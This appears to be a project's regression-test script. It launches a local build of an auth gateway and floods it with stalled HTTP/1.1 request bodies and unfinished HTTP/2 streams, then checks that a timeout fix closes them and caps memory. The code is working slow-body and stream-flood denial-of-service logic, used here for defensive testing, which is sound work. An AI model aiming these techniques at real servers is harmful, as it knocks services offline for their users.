#!/usr/bin/env python3
"""Stalled request bodies against the release binary (issue 11, item 1), from outside.

Run from the repository root, after `cargo build --release`:

  pip install h2                                   # only the h2 phase needs it
  python3 bench/attacks/stalled_bodies.py --bin target/release/dauth-proxy
  python3 bench/attacks/stalled_bodies.py --bin BIN --phase h1 --idle 60   # the default clocks

It starts the gateway itself (a scratch config and store in a temporary directory, the dev
issuer key from keys/dev/, `idle_timeout_secs = --idle`, which is also the default body read
timeout) and runs two phases, printing one JSON object per phase:

  h1  `server.max_connections = --h1-conns` (20). Opens that many connections, each sending
      `POST /api/auth/login` with `Content-Length: 100` and 9 bytes of body, then nothing.
      Probes `GET /health` on a fresh connection at once and again after --hold seconds, and
      counts the stalled connections still open then, and what each was answered.
  h2  --h2-conns h2c connections (40), each opening --h2-streams streams (256) of the same
      POST with 9 bytes of DATA and no END_STREAM, sent before the server's SETTINGS are read
      (as an attacker would, ignoring SETTINGS_MAX_CONCURRENT_STREAMS). Reads the gateway's
      VmRSS from /proc/PID/status before, 2 s after the streams are sent, and after --hold
      seconds; counts streams refused (RST_STREAM), answered (and with what status) and still
      open. --rounds N repeats it N times on the same gateway (is the memory reused?).

Before the fix the h1 connections are held for ever (/health answers 503) and every h2
stream stays open; after it, each stalled request is answered 408 (`DAUTH-1408`) after the
body read timeout, the h1 connections are closed, and at most SETTINGS_MAX_CONCURRENT_STREAMS
streams per connection are accepted.
"""

import argparse
import json
import os
import resource
import selectors
import shutil
import socket
import subprocess
import sys
import tempfile
import time

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
BODY_START = b'{"email":'  # 9 of the 100 bytes announced


def vm_rss_mb(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return round(int(line.split()[1]) / 1024, 1)
    return -1.0


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def start_gateway(binary, work, port, server_extra):
    issuer_key = os.path.join(ROOT, "keys", "dev", "issuer_private.pem")
    config = os.path.join(work, "gateway.toml")
    with open(config, "w") as f:
        f.write(
            f'[server]\nlisten = "127.0.0.1:{port}"\nshutdown_grace_secs = 1\n{server_extra}\n'
            f'[store]\npath = "{work}/store"\n[dauth]\nenabled = false\n'
            f'[issuer]\nurl = "http://127.0.0.1:{port}"\nprivate_key = "{issuer_key}"\n'
            f'kid = "attack"\n[limits]\nper_ip_rps = 1000000\n[log]\nlevel = "warn"\n'
        )
    log = open(os.path.join(work, "gateway.log"), "w")
    proc = subprocess.Popen([binary, "serve", "--config", config], stdout=log, stderr=log)
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            sys.exit(f"the gateway exited: see {work}/gateway.log")
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=1) as s:
                s.sendall(b"GET /health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
                if s.recv(64).startswith(b"HTTP/1.1 200"):
                    return proc
        except OSError:
            pass
        time.sleep(0.1)
    proc.kill()
    sys.exit("the gateway did not become ready")


def stop_gateway(proc):
    proc.terminate()
    try:
        proc.wait(timeout=10)
    except subprocess.TimeoutExpired:
        proc.kill()


def health(port):
    """Status of GET /health on a fresh connection; 0 when nothing is answered."""
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
            s.sendall(b"GET /health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            first = s.recv(64).split(b" ")
            return int(first[1]) if len(first) > 1 else 0
    except (OSError, ValueError):
        return 0


def stalled_post_head(port):
    return (
        f"POST /api/auth/login HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
        "Content-Type: application/json\r\nContent-Length: 100\r\n\r\n"
    ).encode() + BODY_START


def phase_h1(args, work):
    port = free_port()
    extra = f"max_connections = {args.h1_conns}\nidle_timeout_secs = {args.idle}"
    proc = start_gateway(args.bin, work, port, extra)
    try:
        socks = []
        for _ in range(args.h1_conns):
            s = socket.create_connection(("127.0.0.1", port), timeout=5)
            s.sendall(stalled_post_head(port))
            socks.append(s)
        time.sleep(0.5)
        during = health(port)
        answers = {s.fileno(): b"" for s in socks}
        closed = set()
        sel = selectors.DefaultSelector()
        for s in socks:
            s.setblocking(False)
            sel.register(s, selectors.EVENT_READ)
        end = time.monotonic() + args.hold
        while time.monotonic() < end and len(closed) < len(socks):
            for key, _ in sel.select(timeout=0.2):
                s = key.fileobj
                try:
                    data = s.recv(65536)
                except OSError:
                    data = b""
                if data:
                    answers[s.fileno()] += data
                else:
                    closed.add(s.fileno())
                    sel.unregister(s)
        after = health(port)
        statuses = {}
        for data in answers.values():
            parts = data.split(b" ", 2)
            status = parts[1].decode() if len(parts) > 1 else "none"
            code = "DAUTH-1408" if b"DAUTH-1408" in data else ""
            key = f"{status} {code}".strip()
            statuses[key] = statuses.get(key, 0) + 1
        for s in socks:
            s.close()
        return {
            "phase": "h1",
            "stalled_connections": len(socks),
            "max_connections": args.h1_conns,
            "health_while_stalled": during,
            "still_open_after_hold": len(socks) - len(closed),
            "hold_secs": args.hold,
            "answers": statuses,
            "health_after_hold": after,
        }
    finally:
        stop_gateway(proc)


class H2Client:
    """One h2c connection, driven without blocking."""

    def __init__(self, port, streams):
        import h2.config
        import h2.connection

        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.sock.setblocking(False)
        self.conn = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        )
        self.conn.initiate_connection()
        self.open = set()
        self.refused = 0
        self.statuses = {}
        self.closed = False
        headers = [
            (":method", "POST"),
            (":scheme", "http"),
            (":authority", f"127.0.0.1:{port}"),
            (":path", "/api/auth/login"),
            ("content-type", "application/json"),
            ("content-length", "100"),
        ]
        for i in range(streams):
            sid = 1 + 2 * i
            self.conn.send_headers(sid, headers)
            self.conn.send_data(sid, BODY_START)
            self.open.add(sid)
        self.pending = self.conn.data_to_send()
        self.flush()

    def flush(self):
        while self.pending and not self.closed:
            try:
                n = self.sock.send(self.pending)
            except BlockingIOError:
                return
            except OSError:
                self.closed = True
                return
            self.pending = self.pending[n:]

    def on_readable(self):
        import h2.events
        import h2.exceptions

        try:
            data = self.sock.recv(65536)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        if not data:
            self.closed = True
            return
        try:
            events = self.conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            self.closed = True
            return
        for e in events:
            if isinstance(e, h2.events.ResponseReceived):
                status = dict(e.headers).get(":status", "?")
                self.statuses[status] = self.statuses.get(status, 0) + 1
            elif isinstance(e, h2.events.StreamReset):
                if e.stream_id in self.open and e.error_code == 7:  # REFUSED_STREAM
                    self.refused += 1
                self.open.discard(e.stream_id)
            elif isinstance(e, h2.events.StreamEnded):
                self.open.discard(e.stream_id)
            elif isinstance(e, h2.events.ConnectionTerminated):
                self.closed = True
            elif isinstance(e, h2.events.DataReceived):
                self.conn.acknowledge_received_data(e.flow_controlled_length, e.stream_id)
        self.pending += self.conn.data_to_send()
        self.flush()


def pump(clients, secs):
    sel = selectors.DefaultSelector()
    for c in clients:
        if not c.closed:
            sel.register(c.sock, selectors.EVENT_READ, c)
    end = time.monotonic() + secs
    while time.monotonic() < end:
        for key, _ in sel.select(timeout=0.2):
            c = key.data
            c.on_readable()
            if c.closed:
                sel.unregister(c.sock)
    sel.close()


def phase_h2(args, work):
    try:
        import h2  # noqa: F401
    except ImportError:
        sys.exit("the h2 phase needs the h2 library: pip install h2")
    port = free_port()
    extra = f"max_connections = {args.h2_conns + 100}\nidle_timeout_secs = {args.idle}"
    proc = start_gateway(args.bin, work, port, extra)
    try:
        results = []
        for round_no in range(1, args.rounds + 1):
            baseline = vm_rss_mb(proc.pid)
            clients = [H2Client(port, args.h2_streams) for _ in range(args.h2_conns)]
            pump(clients, 2.0)
            peak = vm_rss_mb(proc.pid)
            open_at_peak = sum(len(c.open) for c in clients if not c.closed)
            pump(clients, max(args.hold - 2.0, 0))
            after = vm_rss_mb(proc.pid)
            statuses = {}
            for c in clients:
                for k, v in c.statuses.items():
                    statuses[k] = statuses.get(k, 0) + v
            results.append({
                "phase": "h2",
                "round": round_no,
                "connections": args.h2_conns,
                "streams_per_connection": args.h2_streams,
                "baseline_rss_mb": baseline,
                "rss_mb_2s_after": peak,
                "streams_open_2s_after": open_at_peak,
                "refused_streams": sum(c.refused for c in clients),
                "answers": statuses,
                "streams_open_after_hold": sum(len(c.open) for c in clients if not c.closed),
                "connections_closed": sum(c.closed for c in clients),
                "hold_secs": args.hold,
                "rss_mb_after_hold": after,
                "health_after_hold": health(port),
            })
            for c in clients:
                c.sock.close()
        return results
    finally:
        stop_gateway(proc)


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("--bin", default=os.path.join(ROOT, "target", "release", "dauth-proxy"))
    p.add_argument("--phase", choices=["h1", "h2", "both"], default="both")
    p.add_argument("--idle", type=int, default=5, help="server.idle_timeout_secs (default 5)")
    p.add_argument("--hold", type=float, default=None, help="seconds to wait (default 2 x idle + 3)")
    p.add_argument("--h1-conns", type=int, default=20)
    p.add_argument("--h2-conns", type=int, default=40)
    p.add_argument("--h2-streams", type=int, default=256)
    p.add_argument("--rounds", type=int, default=1, help="h2 attacks, one after the other, on one gateway")
    args = p.parse_args()
    if args.hold is None:
        args.hold = 2 * args.idle + 3
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    work = tempfile.mkdtemp(prefix="dauth-attack-")
    try:
        if args.phase in ("h1", "both"):
            print(json.dumps(phase_h1(args, work)), flush=True)
        if args.phase in ("h2", "both"):
            for result in phase_h2(args, work):
                print(json.dumps(result), flush=True)
    finally:
        shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    main()
